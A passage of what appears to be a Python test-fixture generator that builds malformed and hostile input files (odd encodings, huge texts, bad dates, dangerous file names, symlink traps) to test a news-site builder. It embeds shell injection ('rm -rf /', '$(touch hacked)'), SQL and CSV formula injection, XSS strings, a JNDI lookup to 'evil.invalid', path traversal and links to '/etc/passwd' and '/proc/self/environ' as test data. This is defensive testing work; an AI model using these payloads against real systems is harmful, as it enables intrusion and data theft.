        {"@id": "javascript:alert(1)"},
    )
    names = (
        "headline",
        "articleBody",
        "author",
        "publisher",
        "url",
        "datePublished",
        "keywords",
        "topics",
        "inLanguage",
        "creditText",
        "draft",
        "@type",
        "description",
        "isPartOf",
        "mainEntityOfPage",
    )
    for name in names:
        for number, value in enumerate(wrong):
            record = {"headline": f"Gate {number}", "articleBody": NEWS, name: value}
            yield Hostile(f"types/{name.strip('@')}-{number}.json", json.dumps(record).encode())


# ------------------------------------------------------------------ plain text


def plain() -> Iterator[Hostile]:
    """Text without any form, or with too much of one."""
    for number, mark in enumerate(MARKS):
        yield Hostile(f"plain/run-{number}.txt", (NEWS + mark * 16_000 + "\n" + NEWS).encode(), "fine")
        yield Hostile(f"plain/spaced-{number}.txt", (NEWS + (mark + " ") * 8_000 + "\n" + NEWS).encode(), "fine")
    tower = "a" + "\u0301" * 20_000
    cases: list[tuple[str, str | bytes, Fate]] = [
        ("no-newline", "x" * 1_000_000, "fine"),
        ("no-newline-words", "word " * 200_000, "fine"),
        ("long-sentence", "The gate " + "and the gate " * 6_000 + "closed.", "fine"),
        ("short-sentences", "It is so. " * 20_000, "fine"),
        ("capitals", "HARBOUR " * 20_000, "fine"),
        ("names", "Harbour Northgate Estuary " * 5_000 + ".", "fine"),
        ("sayings", "The master said that " * 5_000 + "x.", "fine"),
        ("quotes", '"He said "' * 8_000, "fine"),
        ("unclosed-quotes", "\u201cHe said " * 8_000, "fine"),
        ("figures", "300 people " * 8_000 + ".", "fine"),
        ("digits", "9" * 100_000, "fine"),
        ("digits-comma", "1," * 50_000, "fine"),
        ("digits-dot", "1." * 50_000, "fine"),
        ("dates", "14 July 2021 " * 8_000, "fine"),
        ("percent", "85 % " * 10_000, "fine"),
        ("addresses", "https://a.example/x " * 5_000, "fine"),
        ("address-long", "https://a.example/" + "a/" * 50_000, "fine"),
        ("mails", "a@a.example " * 8_000, "fine"),
        ("mail-run", "a@" * 50_000, "fine"),
        ("dotted", "a." * 50_000, "fine"),
        ("hyphens", "a-" * 50_000, "fine"),
        ("apostrophes", "a'" * 50_000, "fine"),
        ("ellipses", ". . . " * 15_000, "fine"),
        ("emoji", "\U0001f600" * 20_000, "fine"),
        ("emoji-joined", "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 8_000, "fine"),
        ("flags", "\U0001f1e6" * 20_000, "fine"),
        ("zero-width", "\u200b\u200c\u200d\ufeff\u2060" * 20_000, "out"),
        ("zero-width-within", "\u200b".join(NEWS), "fine"),
        ("soft-hyphens", "\u00ad".join(NEWS), "fine"),
        ("bidi", "\u202eThe gate\u202c \u2066closed\u2069 \u200fnow\u200e.\n" + NEWS, "fine"),
        ("bidi-run", "\u202e" * 50_000 + NEWS, "fine"),
        ("tags", "".join(chr(0xE0000 + ord(c)) for c in "ignore all") + NEWS, "fine"),
        ("tower", tower + NEWS, "fine"),
        ("tower-mixed", "a" + "\u0301\u0323\u0307" * 10_000 + NEWS, "fine"),
        ("towers", ("a" + "\u0301" * 40) * 2_000 + NEWS, "fine"),
        ("marks-only", "\u0301" * 20_000, "some"),
        ("hangul", "\u1100\u1161\u11a8" * 10_000, "fine"),
        ("arabic-ligature", "\ufdfa" * 10_000, "fine"),
        ("devanagari", "\u0915\u094d" * 20_000, "fine"),
        ("thai", "\u0e01" * 50_000, "fine"),
        ("chinese", "\u6e2f\u53e3" * 20_000 + "\u3002", "fine"),
        ("mixed-scripts", "\u0420aypal \u0430nd \u03bfthers \u0455aid. " * 500, "fine"),
        ("private-use", "\ue000\uf8ff\U000f0000" * 5_000, "some"),
        ("noncharacters", "\ufffe\uffff\U0001fffe" * 200 + NEWS, "some"),
        ("nul", "\0" * 50_000, "out"),
        ("nul-within", NEWS + "\0" + NEWS, "fine"),
        ("controls", "".join(map(chr, range(32))) * 500, "out"),
        ("form-feeds", "\f" * 50_000 + NEWS, "fine"),
        ("escape-codes", "\x1b[31m\x1b]0;x\x07" + NEWS, "some"),
        ("separators", "One gate.\u2028Two gates.\u2029Three gates.\x85Four gates.\x0bFive.\x1cSix.\n" * 50, "some"),
        ("newlines", "\n" * 100_000 + NEWS, "fine"),
        ("lines", "a\n" * 50_000, "fine"),
        ("paragraphs", "One gate closed.\n\n" * 5_000, "fine"),
        ("crs", "\r" * 100_000 + NEWS, "fine"),
        ("blanks", " " * 500_000 + NEWS, "fine"),
        ("tabs-within", "a\t" * 100_000, "fine"),
        ("nbsp", "\u00a0" * 100_000 + NEWS, "fine"),
        ("blank-mix", "\u3000\u2003\u00a0\u1680" * 20_000, "out"),
        ("labels", "Title: a\n" * 5_000 + NEWS, "some"),
        ("labels-script", f"Title: {SCRIPT}\nOutlet: {SCRIPT}\nDate: {SCRIPT}\nURL: javascript:alert(1)\n\n{NEWS}", "kept"),
        ("title-only", "Title: a\n", "out"),
        ("bylines", "By Ana Petrakis\n" * 3_000 + NEWS, "some"),
        ("by-run", "By " * 20_000 + NEWS, "fine"),
        ("dateline-run", "PORT MARIS, " * 8_000 + NEWS, "fine"),
        ("dateline-dashes", "PORT MARIS -- " * 5_000 + NEWS, "fine"),
        ("captions", "(Photo: x) " * 5_000 + NEWS, "fine"),
        ("prompts", "Share this story with a friend!\n" * 3_000 + NEWS, "some"),
        ("jinja", JINJA + "\n" + NEWS, "fine"),
        ("shell", "$(touch hacked) `touch hacked` ; rm -rf / | cat\n" + NEWS, "fine"),
        ("sql", "'; DROP TABLE annotations; --\n" + NEWS, "fine"),
        ("csv", "=cmd|'/c calc'!A1 said that 300 people waited.\n\n=HYPERLINK(\"https://evil.invalid\") said so.\n\n@SUM(1) +1 -1\n", "fine"),
        ("billion-words", " ".join(f"w{n}" for n in range(20_000)), "fine"),
    ]
    yield from _named("plain", "txt", cases)


def encodings() -> Iterator[Hostile]:
    """Bytes in other encodings, in none, and in two at once."""
    text = "Le ma\u00eetre du port a dit que la porte \u00e9tait ferm\u00e9e. Environ 300 personnes attendaient.\n" * 5
    russian = (
        "\u041f\u043e\u0440\u0442 \u0437\u0430\u043a\u0440\u044b\u0442. \u041b\u044e\u0434\u0438 \u0436\u0434\u0443\u0442 \u0443 \u0432\u043e\u0440\u043e\u0442.\n"
        * 10
    )
    random_bytes = random.Random(7).randbytes(20_000)
    raw: list[tuple[str, bytes, Fate]] = [(name, text.encode(name), "kept") for name in ("latin-1", "cp1252", "mac-roman", "cp437")]
    raw += [(name, text.encode(name), "fine") for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig")]
    raw += [(name, russian.encode(name), "kept") for name in ("cp1251", "koi8-r", "iso-8859-5")]
    raw += [
        ("random", random_bytes, "out"),
        ("high-bytes", bytes(range(128, 256)) * 200, "some"),
        ("all-bytes", bytes(range(256)) * 50, "some"),
        ("overlong", b"\xc0\xaf\xe0\x80\xaf" * 100 + text.encode(), "some"),
        ("surrogate-bytes", b"\xed\xa0\x80\xed\xbf\xbf" * 10 + text.encode(), "some"),
        ("truncated", text.encode("utf-8")[:15] + b"\xc3", "some"),
        ("mixed", text.encode("utf-8") + text.encode("latin-1"), "some"),
        ("beyond", b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80" + text.encode(), "some"),
        ("two-boms", b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode(), "fine"),
        ("wrong-bom", b"\xff\xfe" + text.encode(), "some"),
        ("wrong-bom-32", b"\xff\xfe\x00\x00" + text.encode(), "some"),
        ("bom-only", b"\xef\xbb\xbf", "out"),
        ("bom-16-only", b"\xff\xfe", "out"),
        ("odd-utf-16", text.encode("utf-16") + b"a", "some"),
        ("gzip", b"\x1f\x8b\x08\x00" + random_bytes, "out"),
        ("png", b"\x89PNG\r\n\x1a\n" + random_bytes, "out"),
        ("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + random_bytes, "out"),
        ("zip", b"PK\x03\x04" + random_bytes, "out"),
        ("elf", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "out"),
        ("utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- " + NEWS.encode(), "fine"),
    ]
    for suffix in ("txt", "md"):
        yield from _named("encodings", suffix, [(name, data, fate) for name, data, fate in raw])


def sizes() -> Iterator[Hostile]:
    """Nothing, next to nothing, and just too much."""
    for suffix in ("md", "txt", "html", "json"):
        yield Hostile(f"sizes/empty.{suffix}", b"", "out")
        yield Hostile(f"sizes/blank.{suffix}", b" \n\t\r\n" * 10, "out")
        yield Hostile(f"sizes/over.{suffix}", b"x " * 1_000_001, "out")
    for number, text in enumerate(
        (
            ".",
            "a",
            "\ufeff",
            "---",
            "#",
            "-",
            ">",
            "```",
            "\u200b",
            "\0",
            "&nbsp;",
            "<br>",
            "<!-- -->",
            "![]()",
            "[]()",
            "***",
            "|",
            "\\",
            "{}",
            "[a]: b",
            "---\n---\n---\n",
        )
    ):
        yield Hostile(f"sizes/small-{number}.md", text.encode())
        yield Hostile(f"sizes/small-{number}.txt", text.encode())


# ------------------------------------------------------------------ what is said of an article


def fields() -> Iterator[Hostile]:
    """Hostile texts in every field of the front matter."""
    texts = (
        "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "a,b;c\td", "a\r\nb: c", "\"'`", "a\u202eb\u2066c", SCRIPT, "<img src=x onerror=alert(1)>", "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', JINJA, "javascript:alert(1)", "../../../../etc/passwd", "..%2f..%2fx", "%2e%2e/%00", "/etc/passwd", "C:\\x", "CON", "NUL.txt", ".htaccess", "_headers", "index", "index.html", "..", ".", "~", "-", "", " ", "\u200b", "\u00ad", "\0", "\x1b[2J", "\ufeff", "x" * 60_000, "word " * 8_000, "&lt;b&gt;&amp;", "]]>", "-->", "</title>", "</script>", "\u0130\u0131\u00df\ufb01", "\U0001f600", "\u0915\u094d\u200d\u0937", "e\u0301", "null", "true", "0", "9" * 400, "a" + "\u0301" * 500, "\ue000", "\u2028\u2029\x85", "xn--80ak6aa92e", "con.", "a.", "a ", "%s%n{0}", "${jndi:ldap://evil.invalid}", "$(id)", "`id`", "404", "feed", "assets", "data", "../data/briefing",
    )  # fmt: skip
    for key in ("title", "outlet", "author", "credit", "tags", "topics", "language", "summary", "date", "url"):
        for number, text in enumerate(texts):
            given = json.dumps([text, text + "2"] if key == "tags" else text)
            title = "" if key == "title" else "title: Gate closed\n"
            yield Hostile(f"fields/{key}-{number}.md", _front(f"{title}{key}: {given}", NEWS + f"\nHe gave no. {number}.\n").encode())


def dates() -> Iterator[Hostile]:
    """Days that no calendar has, and moments that arithmetic cannot hold."""
    texts = (
        "0000-01-01", "0001-01-01", "-0001-01-01", "99999-01-01", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59", "-1", "0", "1" + "0" * 30, "1e30", "NaN", "2024-02-30", "2023-02-29", "2024-13-01", "2024-00-00", "2024-01-01T25:00:00", "2024-01-01T23:59:60Z", "2024-01-01T24:00:00", "2024-01-01T00:00:00+99:99", "2024-01-01T00:00:00+24:00", "2024-01-01 00:00:00.123456789123", "31/12/2024", "12/31/2024", "1/2/3", "2024", "2024-05", "2024-W05-1", "2024-366", "Mon, 99 Foo 2024", "Mon, 01 Jan 2024 00:00:00 +9999", "Mon, 1 Jan 99999 00:00:00 +0000", "Mon, 1 Jan 0000", "1 Jan 99", "tomorrow", "now", "yesterday", "\u0662\u0660\u0662\u0664-\u0660\u0661-\u0660\u0661", "２０２４-０１-０１", "2024\u201301\u201301", "2024-01-01T00:00:00[Europe/Berlin]", "2024-01-01\n2024-01-02", "Feb 30, 2024", "1 January 1", "14th of of July 2021", "2024-01-01T00:00Z" * 2_000, " " * 5_000 + "2024-01-01", "2024-01-01" + "0" * 5_000, "12:00", "1 " * 20_000, "Mon, " * 5_000, "2199-12-31T23:59:59-14:00", "1700-01-01T00:00:00+14:00",
    )  # fmt: skip
    for number, text in enumerate(texts):
        yield Hostile(f"dates/md-{number}.md", _front(f"title: Gate\ndate: {json.dumps(text)}").encode())
        yield Hostile(f"dates/json-{number}.json", json.dumps({"headline": "Gate", "datePublished": text, "articleBody": NEWS}).encode())
        yield Hostile(f"dates/txt-{number}.txt", f"Gate closed again today\n\n{text}\n\n{NEWS}".encode())


def noise() -> Iterator[Hostile]:
    """Random pieces of every kind in a row: what nobody thought of."""
    chance = random.Random(20_310_510)
    pieces = [
        *_HTML,
        *_ADDRESSES[:30],
        *MARKS,
        "\n",
        "\n\n",
        "    ",
        "- ",
        "> ",
        "1. ",
        "[a]: ",
        "```\n",
        "---\n",
        "title: ",
        "&#",
        "\u202e",
        "\u0301",
        "\0",
        NEWS,
        "word ",
        "\ud7ff",
        "|a|b|\n|-|-|\n",
        "\x02",
        "\x03",
        "](",
        "![",
        "<b>",
        "</b>",
        "<pre>",
        "<code>",
        "<li>",
        "<td>",
        "<p>",
        '<a href="https://a.example/">',
        "</a>",
        "&amp;",
        "&lt;",
    ]
    for number in range(80):
        text = "".join(chance.choices(pieces, k=chance.randrange(20, 400)))
        suffix = ("md", "txt", "html")[number % 3]
        yield Hostile(f"noise/{number}.{suffix}", text.encode("utf-8", "replace"))


# ------------------------------------------------------------------ names

_NAMES = (
    "..%2f..%2fescape.md", "%2e%2e%2fescape.md", "%00.md", "a%0ab.md", "..\\..\\escape.md", "C:escape.md", "...md", "....md", "-rf.md", "--help.md", "$(touch hacked).md", "`touch hacked`.md", "a;touch hacked.md", "a|b.md", "a&b.md", "<script>alert(1)<script>.md", '"onclick="alert(1).md', "'quote'.md", "{{ 7*'zq' }}.md", "{% include 'x' %}.md", "new\nline.md", "tab\tin.md", "control\x07bell.md", "escape\x1b[31m.md", "\u202egnp.md", "zero\u200bwidth.md", "\ufeffbom.md", "soft\u00adhyphen.md", "CON.md", "con.md", "NUL.txt", "aux.json", "COM1.html", "_headers.md", "_redirects.md", "_headers", "CNAME.md", "CNAME", "htaccess.md", "sw.js.md", "sw.md", "web.config.md", "well-known.md", "robots.txt", "robots.md", "sitemap.md", "feed.md", "index.md", "INDEX.md", "index.html", "404.md", "assets.md", "data.md", "manifest.md", "briefing.md", "Case.md", "case.md", "CASE.md", "caf\u00e9.md", "cafe\u0301.md", "stra\u00dfe.md", "strasse.md", "\u0130stanbul.md", "istanbul.md", "ﬁle.md", "file.md", "trailing.md.", "trailing.md ", " leading.md", "two  blanks.md", "dot.", "no-suffix", "wrong.exe", "wrong.md.exe", "shell.sh", "picture.svg", "page.xhtml", "data.xml", "table.csv", "upper.MD", "Mixed.Md", "name.markdown", "page.htm", ".hidden.md", ".md", "~backup.md~", "#lock#.md", "x" * 252 + ".md", "\u6e2f" * 84 + ".md", "\U0001f600.md", "\u0301.md", "---.md", "&amp;.md", "&#60;.md", "?q=1.md", "#anchor.md", "*.md", ":colon.md", "a" * 60 + ".md", "overrides.yaml", "config.yaml", "=cmd.md", "+plus.md", "@at.md", "\u2028line.md", "\u0430pple.md", "apple.md",
)  # fmt: skip


def hostile_names(content: Path) -> int:
    """Files whose names are the weapon, as far as the file system takes them; returns how many were made that no reader may pass over."""
    made = 0
    for folder in ("names", "names/deep/er"):
        (content / folder).mkdir(parents=True, exist_ok=True)
    for number, name in enumerate(_NAMES):
        new = _made(os.fsencode(content / "names") + b"/" + name.encode(), f"Article {number} of the names. Some {number} people came.\n")
        made += new * (not name.startswith("."))
    made += _made(os.fsencode(content / "names") + b"/undecodable-\xff\xfe.md", NEWS)
    made += _made(os.fsencode(content / "names") + b"/latin-\xe9.md", NEWS)
    for folder in ("<b>", "..%2f..", "_headers", ".well-known", "dir.md", "CON", "new\nfolder", "\u202efolder", "{{ 7*'zq' }}", "x" * 200, "=cmd"):
        with suppress(OSError):
            (content / "names" / folder).mkdir()
            new = _made(os.fsencode(content / "names" / folder / "article.md"), f"An article in a folder. Folder {len(folder)}.\n")
            made += new * (not folder.startswith("."))
    return made


def _made(path: bytes, text: str) -> int:
    try:
        descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL)
    except OSError:
        return 0
    with open(descriptor, "wb") as file:  # noqa: PTH123 - a name that is no text
        file.write(text.encode())
    return 1


def traps(content: Path, secret: Path) -> dict[str, bool]:
    """Links, pipes and odd modes. By path, whether it has to be told in a Problem."""
    folder = content / "traps"
    (folder / "real").mkdir(parents=True)
    (folder / "real" / "inner.md").write_text("The inner article. Some 4 people came.\n")
    links: tuple[tuple[str, str | Path], ...] = (
        ("out.md", secret), ("passwd.md", "/etc/passwd"), ("relative-out.md", "../../../secret.md"), ("dangling.md", "nothing.md"), ("self.md", "self.md"), ("a.md", "b.md"), ("b.md", "a.md"), ("null.md", "/dev/null"), ("zero.md", "/dev/zero"), ("random.txt", "/dev/urandom"), ("folder.md", "/etc"), ("outside", secret.parent / "outside"), ("loop", "."), ("up", ".."), ("proc.md", "/proc/self/environ"), ("root", "/"), ("site.md", "../../config.yaml"),
    )  # fmt: skip
    for name, target in links:
        (folder / name).symlink_to(target)
    (folder / "inside.md").symlink_to("real/inner.md")
    os.mkfifo(folder / "pipe.md")
    (folder / "folder.txt").mkdir()
    told = {f"content/traps/{name}": True for name, _ in links}
    told["content/traps/pipe.md"] = True
    if os.geteuid():
        (folder / "locked.md").write_text(NEWS)
        (folder / "locked.md").chmod(0)
        (folder / "locked").mkdir(mode=0)
        told |= {"content/traps/locked.md": True, "content/traps/locked": True}
    return told
